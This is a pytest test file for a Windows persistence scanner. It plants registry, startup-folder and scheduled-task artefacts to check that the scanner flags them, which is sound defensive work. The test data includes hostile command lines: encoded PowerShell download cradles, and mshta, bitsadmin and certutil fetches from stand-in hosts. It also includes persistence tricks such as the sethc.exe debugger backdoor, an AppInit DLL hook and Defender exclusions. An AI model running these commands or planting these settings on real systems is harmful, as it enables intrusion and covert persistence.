"""Each Windows location: a benign case gives no finding at medium or above, a planted case is
found. Registry keys are read from real hives (values planted with hivexsh); keys for which no
real hive is shared are also tested through an in-memory registry."""

from __future__ import annotations

import warnings
from datetime import UTC, datetime
from pathlib import Path

import pytest
from win_fakeroot import (
    ANYDESK_IMAGE,
    CONFIG,
    DEFRAG_TASK,
    FakeRegistry,
    lnk,
    of_kind,
    plant,
    run,
    software_hive,
    task_xml,
    utf16,
    windows_root,
)

from safecheck.catalog.index import CatalogIndex
from safecheck.catalog.loader import load_catalog
from safecheck.core.entries import Entry, Hit
from safecheck.core.model import Severity
from safecheck.scan.analysis.base import Context
from safecheck.scan.analysis.windows import judge_windows, windows_path
from safecheck.scan.collectors.base import CollectorResult
from safecheck.scan.collectors.host import Host
from safecheck.scan.collectors.windows.autoruns import AutorunsCollector
from safecheck.scan.collectors.windows.defender import DefenderCollector
from safecheck.scan.collectors.windows.remote import RemoteCollector
from safecheck.scan.collectors.windows.services import ServicesCollector
from safecheck.scan.collectors.windows.startup import StartupCollector, parse_lnk
from safecheck.scan.collectors.windows.tasks import TaskError, TasksCollector, parse_task

NT = "Microsoft\\Windows NT\\CurrentVersion"
RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
STARTUP = "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
SEVERE = {
    "SC-TOOL-REMOTE-ACCESS",
    "SC-TOOL-MONITORING",
    "SC-TOOL-KEYLOGGER",
    "SC-TOOL-PARENTAL",
    "SC-TOOL-TUNNEL",
    "SC-WIN-IFEO-DEBUGGER",
    "SC-WIN-APPINIT",
    "SC-WIN-APPINIT-LISTED",
    "SC-WIN-WINLOGON",
    "SC-WIN-DOWNLOAD-EXEC",
    "SC-WIN-ODD-LOCATION",
    "SC-WIN-RDP-ENABLED",
    "SC-WIN-DEFENDER-EXCLUSION",
}  # every rule at medium or above


@pytest.fixture(scope="module")
def ctx() -> Context:
    return Context("win32", CatalogIndex(load_catalog()), datetime(2026, 11, 1, tzinfo=UTC))


def hits(result: CollectorResult, ctx: Context) -> list[Hit]:
    return [hit for entry in result.entries for hit in judge_windows(entry, ctx)]


def rules(result: CollectorResult, ctx: Context) -> set[str]:
    return {hit.rule for hit in hits(result, ctx)}


def test_severe_set_matches_rule_levels() -> None:
    from safecheck.report.rules import load_rules  # noqa: PLC0415

    levels = load_rules()
    severe = {r for r, rule in levels.items() if rule.severity >= Severity.MEDIUM}
    assert severe >= SEVERE


# --- Run keys ---------------------------------------------------------------------------------


def test_run_keys_benign_real_hive(tmp_path: Path, ctx: Context) -> None:
    result = run(AutorunsCollector(), windows_root(tmp_path))
    [sidebar] = of_kind(result, "run-key")
    assert sidebar.name == "Sidebar" and sidebar.user == "alice"
    assert sidebar.program == "%ProgramFiles%\\Windows Sidebar\\Sidebar.exe"
    assert not rules(result, ctx) & SEVERE
    assert result.errors == []  # no SOFTWARE hive: missing, not an error


def test_run_key_planted(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path)
    plant(
        root / "Users/alice/NTUSER.DAT",
        {RUN: {"Updater": "string:C:\\Users\\Public\\upd.exe"}},
    )
    result = run(AutorunsCollector(), root)
    [entry] = [e for e in of_kind(result, "run-key") if e.name == "Updater"]
    assert entry.location == "HKU\\alice\\" + RUN
    assert entry.program == "C:\\Users\\Public\\upd.exe"
    assert "SC-WIN-ODD-LOCATION" in rules(result, ctx)


def test_run_keys_machine_and_wow_views(ctx: Context) -> None:
    base = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion"
    registry = FakeRegistry(
        {
            f"{base}\\Run": {
                "SecurityHealth": ("REG_EXPAND_SZ", "%windir%\\system32\\SecurityHealthSystray.exe")
            },
            "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run": {
                "x": ("REG_SZ", '"C:\\ProgramData\\svc.exe" -q')
            },
            f"{base}\\RunOnceEx\\0001": {"1": ("REG_SZ", "C:\\Windows\\Temp\\a.exe")},
        },
        broken=("HKU\\bob\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",),
        users=("bob",),
    )
    result = AutorunsCollector(registry).collect(_host())
    names = {(e.location, e.name) for e in of_kind(result, "run-key")}
    assert (f"{base}\\Run", "SecurityHealth") in names
    assert (f"{base}\\RunOnceEx\\0001", "1") in names
    found = {(h.rule, h.entry.name) for h in hits(result, ctx)}
    assert ("SC-WIN-ODD-LOCATION", "x") in found and ("SC-WIN-ODD-LOCATION", "1") in found
    assert ("SC-WIN-ODD-LOCATION", "SecurityHealth") not in found
    assert len(result.errors) == 1  # the damaged key, once


def _host() -> Host:
    return Host(platform="win32", root=Path("/nonexistent-root"))


# --- SOFTWARE: IFEO, AppInit, Winlogon, Active Setup, Uninstall, Defender ----------------------

BENIGN_SOFTWARE = {
    f"{NT}\\Winlogon": {
        "Shell": "string:explorer.exe",
        "Userinit": "string:C:\\Windows\\system32\\userinit.exe,",
    },
    f"{NT}\\Image File Execution Options\\notepad.exe": {"GlobalFlag": "dword:0x0"},
    f"{NT}\\Windows": {"AppInit_DLLs": "string:", "LoadAppInit_DLLs": "dword:0x0"},
    "Microsoft\\Active Setup\\Installed Components\\{89820200-ECBD-11cf-8B85-00AA005B4383}": {
        "StubPath": "string:%SystemRoot%\\system32\\ie4uinit.exe -UserConfig",
        "IsInstalled": "dword:0x1",
    },
    "Microsoft\\Windows\\CurrentVersion\\Uninstall\\Mozilla Firefox": {
        "DisplayName": "string:Mozilla Firefox (x64 en-US)",
        "Publisher": "string:Mozilla",
        "InstallLocation": "string:C:\\Program Files\\Mozilla Firefox",
    },
}
PLANTED_SOFTWARE = {
    f"{NT}\\Winlogon": {
        "Shell": "string:explorer.exe, C:\\ProgramData\\sh.exe",
        "Userinit": "string:C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe",
    },
    f"{NT}\\Image File Execution Options\\sethc.exe": {
        "Debugger": "string:C:\\Windows\\System32\\cmd.exe"
    },
    f"{NT}\\Windows": {
        "AppInit_DLLs": "string:C:\\ProgramData\\hook.dll",
        "LoadAppInit_DLLs": "dword:0x1",
    },
    "Microsoft\\Active Setup\\Installed Components\\{0000-evil}": {
        "StubPath": "string:powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    },
    "Microsoft\\Windows\\CurrentVersion\\Uninstall\\AnyDesk": {
        "DisplayName": "string:AnyDesk",
        "InstallLocation": 'string:"C:\\Program Files (x86)\\AnyDesk"',
    },
    "Microsoft\\Windows Defender\\Exclusions\\Paths": {"C:\\Users\\Public\\x": "dword:0x0"},
    "Microsoft\\Windows Defender\\Exclusions\\Processes": {"upd.exe": "dword:0x0"},
}


def test_software_benign(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path)
    software_hive(root, BENIGN_SOFTWARE)
    results = [run(c, root) for c in (AutorunsCollector(), RemoteCollector(), DefenderCollector())]
    kinds = {e.kind for r in results for e in r.entries}
    assert {"winlogon", "active-setup", "installed-program"} <= kinds
    assert "ifeo-debugger" not in kinds and "appinit" not in kinds  # nothing set
    assert not {rule for r in results for rule in rules(r, ctx)} & (SEVERE - {"SC-WIN-RDP-ENABLED"})


def test_software_planted(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path)
    software_hive(root, PLANTED_SOFTWARE)
    autoruns = run(AutorunsCollector(), root)
    found = {(h.rule, h.entry.kind) for h in hits(autoruns, ctx)}
    assert ("SC-WIN-IFEO-DEBUGGER", "ifeo-debugger") in found
    assert ("SC-WIN-APPINIT", "appinit") in found
    assert ("SC-WIN-WINLOGON", "winlogon") in found
    assert ("SC-WIN-DOWNLOAD-EXEC", "active-setup") in found
    [ifeo] = of_kind(autoruns, "ifeo-debugger")
    assert ifeo.name == "sethc.exe" and ifeo.program == "C:\\Windows\\System32\\cmd.exe"
    winlogon = {
        e.name for (e,) in [(h.entry,) for h in hits(autoruns, ctx)] if e.kind == "winlogon"
    }
    assert winlogon == {"Shell", "Userinit"}
    remote = run(RemoteCollector(), root)
    tools = {(h.rule, h.entry.name) for h in hits(remote, ctx)}
    assert ("SC-TOOL-REMOTE-ACCESS", "AnyDesk") in tools
    defender = run(DefenderCollector(), root)
    assert {e.name for e in of_kind(defender, "defender-exclusion")} == {
        "C:\\Users\\Public\\x",
        "upd.exe",
    }
    assert rules(defender, ctx) == {"SC-WIN-DEFENDER-EXCLUSION"}


def test_appinit_switched_off_is_medium(ctx: Context) -> None:
    key = f"HKLM\\SOFTWARE\\{NT}\\Windows"
    registry = FakeRegistry(
        {key: {"AppInit_DLLs": ("REG_SZ", "C:\\x\\a.dll"), "LoadAppInit_DLLs": ("REG_DWORD", 0)}}
    )
    result = AutorunsCollector(registry).collect(_host())
    assert rules(result, ctx) == {"SC-WIN-APPINIT-LISTED"}


def test_uninstall_by_name_and_per_user(ctx: Context) -> None:
    uninstall = "Microsoft\\Windows\\CurrentVersion\\Uninstall"
    registry = FakeRegistry(
        {
            f"HKU\\alice\\Software\\{uninstall}\\TeamViewer": {
                "DisplayName": ("REG_SZ", "TeamViewer 15")
            },
            f"HKLM\\SOFTWARE\\WOW6432Node\\{uninstall}\\KB123": {"DisplayName": ("REG_SZ", "")},
            f"HKLM\\SOFTWARE\\{uninstall}\\7-Zip": {"DisplayName": ("REG_SZ", "7-Zip 23.01 (x64)")},
        },
        users=("alice",),
    )
    result = RemoteCollector(registry).collect(_host())
    programs = of_kind(result, "installed-program")
    assert {e.name for e in programs} == {"TeamViewer 15", "7-Zip 23.01 (x64)"}
    found = {(h.rule, h.entry.name, h.entry.user) for h in hits(result, ctx)}
    assert found == {("SC-TOOL-REMOTE-ACCESS", "TeamViewer 15", "alice")}


# --- services and remote access switches ------------------------------------------------------


def test_services_benign_real_hive(tmp_path: Path, ctx: Context) -> None:
    result = run(ServicesCollector(), windows_root(tmp_path, users=()))
    services = of_kind(result, "service")
    assert len(services) > 300
    dhcp = next(e for e in services if e.name == "Dhcp")
    assert dhcp.enabled is True and dhcp.detail("start") == "automatic"
    assert dhcp.detail("service-dll") == "%SystemRoot%\\system32\\dhcpcore.dll"
    assert not rules(result, ctx) & SEVERE


def test_service_planted(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path, users=())
    plant(
        root / CONFIG / "SYSTEM",
        {
            "ControlSet001\\Services\\anydesk": {
                "ImagePath": ANYDESK_IMAGE,
                "Start": "dword:0x00000002",
                "Type": "dword:0x00000010",
                "ObjectName": "string:LocalSystem",
            },
            "ControlSet001\\Services\\updsvc": {
                "ImagePath": "expandstring:C:\\Users\\alice\\AppData\\Local\\Temp\\svc.exe",
                "Start": "dword:0x00000002",
                "Type": "dword:0x00000010",
            },
        },
    )
    result = run(ServicesCollector(), root)
    found = {(h.rule, h.entry.name) for h in hits(result, ctx)}
    assert ("SC-TOOL-REMOTE-ACCESS", "anydesk") in found
    assert ("SC-WIN-ODD-LOCATION", "updsvc") in found
    anydesk = next(e for e in of_kind(result, "service") if e.name == "anydesk")
    assert anydesk.program == "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
    assert anydesk.user == "LocalSystem" and anydesk.enabled is True


def test_remote_desktop_switch(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path, users=())
    assert "SC-WIN-RDP-ENABLED" in rules(run(RemoteCollector(), root), ctx)  # as in this hive
    plant(
        root / CONFIG / "SYSTEM",
        {
            "ControlSet001\\Control\\Terminal Server": {"fDenyTSConnections": "dword:0x1"},
            "ControlSet001\\Control\\Remote Assistance": {"fAllowToGetHelp": "dword:0x1"},
        },
    )
    result = run(RemoteCollector(), root)
    assert rules(result, ctx) == {"SC-WIN-REMOTE-ASSISTANCE"}
    [rdp] = of_kind(result, "rdp")
    assert rdp.enabled is False


# --- Startup folders ----------------------------------------------------------------------------


def test_lnk_round_trip() -> None:
    assert parse_lnk(lnk("C:\\Program Files\\A\\a.exe", "-x")) == (
        "C:\\Program Files\\A\\a.exe",
        "-x",
    )
    assert parse_lnk(b"not a link") is None
    assert parse_lnk(lnk("C:\\a.exe")[:80]) is None


def pylnk3_link(tmp_path: Path, target: str, arguments: str) -> bytes:
    """A shell link written by pylnk3, another implementation of MS-SHLLINK: the target only
    as an item list (no LinkInfo), as some programs write them."""
    import pylnk3  # type: ignore[import-untyped]  # noqa: PLC0415

    path = tmp_path / "made.lnk"
    pylnk3.for_file(target, str(path), arguments=arguments, work_dir="C:\\Users\\Public")
    return path.read_bytes()


def test_a_link_with_only_an_item_list(tmp_path: Path) -> None:
    data = pylnk3_link(tmp_path, "C:\\Users\\Public\\AnyDesk.exe", "--silent")
    assert parse_lnk(data) == ("C:\\Users\\Public\\AnyDesk.exe", "--silent")


def test_damaged_links_are_unreadable_not_errors(tmp_path: Path) -> None:
    """Every other byte of two links overwritten in turn, and cuts: a result or None, never an
    exception or a warning on screen."""
    seeds = [lnk("C:\\Program Files\\A\\a.exe", "-x"), pylnk3_link(tmp_path, "C:\\a\\b.exe", "-y")]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        for seed in seeds:
            for position in range(20, len(seed), 2):
                for value in (0x00, 0xFF):
                    damaged = bytearray(seed)
                    damaged[position] = value
                    result = parse_lnk(bytes(damaged))
                    assert result is None or all(isinstance(part, str) for part in result)
                assert parse_lnk(seed[:position]) is None or position >= 0x4C


def test_startup_benign_and_planted(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path)
    common = root / "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
    (common / "desktop.ini").write_text("[.ShellClassInfo]")
    (common / "Firefox.lnk").write_bytes(lnk("C:\\Program Files\\Mozilla Firefox\\firefox.exe"))
    benign = run(StartupCollector(), root)
    [firefox] = of_kind(benign, "startup-item")
    assert firefox.program == "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
    assert firefox.location.startswith("C:\\ProgramData\\Microsoft\\Windows\\Start Menu")
    assert not rules(benign, ctx) & SEVERE
    mine = root / "Users/alice" / STARTUP
    mine.mkdir(parents=True)
    (mine / "sync.lnk").write_bytes(lnk("C:\\Users\\alice\\AppData\\Local\\Temp\\s.exe", "/q"))
    (mine / "broken.lnk").write_bytes(b"L\0\0\0garbage")
    (mine / "run.bat").write_text("@echo off\r\n")
    result = run(StartupCollector(), root)
    by_name = {e.name: e for e in of_kind(result, "startup-item")}
    assert by_name["sync.lnk"].user == "alice"
    assert by_name["sync.lnk"].command == "C:\\Users\\alice\\AppData\\Local\\Temp\\s.exe /q"
    assert by_name["broken.lnk"].detail("lnk") == "unreadable"
    assert (
        by_name["run.bat"].program
        == "C:\\Users\\alice\\" + STARTUP.replace("/", "\\") + "\\run.bat"
    )
    found = {(h.rule, h.entry.name) for h in hits(result, ctx)}
    assert ("SC-WIN-ODD-LOCATION", "sync.lnk") in found


# --- scheduled tasks ------------------------------------------------------------------------------

ENCODED = "powershell.exe"
ENCODED_ARGS = (
    "-NoP -W Hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
)


def test_task_benign_microsoft(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path, users=())
    folder = root / "Windows/System32/Tasks/Microsoft/Windows/Defrag"
    folder.mkdir(parents=True)
    (folder / "ScheduledDefrag").write_bytes(utf16(DEFRAG_TASK))
    result = run(TasksCollector(), root)
    [task] = of_kind(result, "scheduled-task")
    assert task.name == "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"
    assert task.program == "%windir%\\system32\\defrag.exe"
    assert task.command == "%windir%\\system32\\defrag.exe -c -h -o -$"
    assert task.enabled is True and task.user == "S-1-5-18"
    assert (
        task.location == "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"
    )
    assert not rules(result, ctx) & SEVERE


def test_task_planted(tmp_path: Path, ctx: Context) -> None:
    root = windows_root(tmp_path, users=())
    tasks = root / "Windows/System32/Tasks"
    (tasks / "OneDrive Sync").write_bytes(
        task_xml(
            ENCODED,
            ENCODED_ARGS.replace("-NoP", "-NoP -ExecutionPolicy Bypass"),
            author="alice",
            hidden=True,
        )
    )
    (tasks / "Updater").write_bytes(task_xml("C:\\Users\\alice\\AppData\\Roaming\\upd.exe"))
    result = run(TasksCollector(), root)
    entries = {e.name: e for e in of_kind(result, "scheduled-task")}
    assert entries["\\OneDrive Sync"].detail("hidden") == "yes"
    assert entries["\\OneDrive Sync"].detail("triggers") == "LogonTrigger"
    found = {(h.rule, h.entry.name) for h in hits(result, ctx)}
    assert ("SC-WIN-DOWNLOAD-EXEC", "\\OneDrive Sync") in found
    assert ("SC-WIN-ODD-LOCATION", "\\Updater") in found


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xff\xfe" + "<Task><Actions>".encode("utf-16-le"),
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]><Task>&a;</Task>',
        b"<NotATask/>",
        bytes(range(256)),
    ],
)
def test_damaged_task_files(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(TaskError):
        parse_task(data)
    root = windows_root(tmp_path, users=())
    (root / "Windows/System32/Tasks/bad").write_bytes(data)
    result = run(TasksCollector(), root)
    assert result.entries == [] and len(result.errors) == 1


def test_task_utf8_without_bom_and_com_handler() -> None:
    text = DEFRAG_TASK.replace(
        "<Exec>\n      <Command>%windir%\\system32\\defrag.exe</Command>\n"
        "      <Arguments>-c -h -o -$</Arguments>\n    </Exec>",
        "<ComHandler><ClassId>{47E30D54-DAC1-473A-AFF7-1CB2A0BE5C9A}</ClassId></ComHandler>",
    ).replace('encoding="UTF-16"', 'encoding="UTF-8"')
    task = parse_task(text.encode("utf-8"))
    assert task["actions"] == [("com", "{47E30D54-DAC1-473A-AFF7-1CB2A0BE5C9A}", "")]


# --- analysis helpers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "normal"),
    [
        ("%TEMP%\\a.exe", "~/appdata/local/temp/a.exe"),
        ("C:\\Users\\Bob\\AppData\\Roaming\\x.exe", "~/appdata/roaming/x.exe"),
        ('"C:\\Users\\Public\\x.exe"', "c:/users/public/x.exe"),
        ("/Windows/System32/x.exe", "c:/windows/system32/x.exe"),
    ],
)
def test_windows_path(path: str, normal: str) -> None:
    assert windows_path(path) == normal


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", True),
        ("powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", True),
        ("mshta.exe https://x.example/a.hta", True),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', True),
        ("bitsadmin /transfer j http://x/a C:\\a.exe", True),
        ("certutil.exe -urlcache -split -f http://x/a a.exe", True),
        ("powershell.exe -ExecutionPolicy Bypass -File C:\\Program Files\\x\\y.ps1", False),
        ("C:\\Program Files\\Mozilla Firefox\\firefox.exe -enc", False),
    ],
)
def test_download_exec_commands(command: str, found: bool, ctx: Context) -> None:
    entry = Entry("windows.registry", "run-key", "HKLM\\X\\Run", "v", command=command)
    assert ("SC-WIN-DOWNLOAD-EXEC" in {h.rule for h in judge_windows(entry, ctx)}) is found
